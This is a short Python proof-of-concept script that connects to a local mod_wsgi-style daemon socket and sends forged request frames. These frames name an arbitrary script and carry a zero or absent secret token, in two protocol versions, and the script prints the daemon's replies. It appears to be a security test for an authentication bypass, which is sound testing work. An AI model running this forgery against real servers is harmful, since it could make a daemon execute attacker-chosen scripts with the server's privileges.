# Connects to a daemon socket as any local process could and sends
# hand-built Request frames naming a script of its own, without the group's
# secret: once in the current protocol (typed route, zero token), once in
# version 1's shape (the route as mod_wsgi.rs.* environ keys). Prints what
# came back for each. Usage: forge.py SOCKET SCRIPT
import socket
import struct
import sys


def bstr(b):
    return struct.pack('>I', len(b)) + b


def pairs(env):
    out = struct.pack('>I', len(env))
    for k, v in env.items():
        out += bstr(k.encode()) + bstr(v.encode())
    return out


def frame(kind, payload):
    return struct.pack('>BI', kind, len(payload)) + payload


def environ():
    return {'REQUEST_METHOD': 'GET', 'PATH_INFO': '/', 'SCRIPT_NAME': '',
            'SERVER_NAME': 'x', 'SERVER_PORT': '80', 'wsgi.url_scheme': 'http'}


def v2(script):
    route = (bstr(script.encode()) + struct.pack('>q', 0) + bstr(b'application')
             + bstr(b'') + bstr(b'') + bstr(b'forged') + struct.pack('>B', 0)
             + struct.pack('>IQQII', 1, 0, 0, 1, 0))
    return frame(1, bytes([2]) + b'\0' * 32 + route + pairs(environ()))


def v1(script):
    env = environ()
    env.update({'mod_wsgi.rs.script': script, 'mod_wsgi.callable_object': 'application',
                'mod_wsgi.application_group': ''})
    return frame(1, bytes([1]) + pairs(env)) + frame(3, b'')


def send(path, data):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(path)
    s.sendall(data)
    got = b''
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            got += chunk
    except socket.timeout:
        got += b'<timeout>'
    s.close()
    return got


if __name__ == '__main__':
    path, script = sys.argv[1], sys.argv[2]
    for name, data in (('v2', v2(script)), ('v1', v1(script))):
        print(name, send(path, data).hex() or 'closed', flush=True)
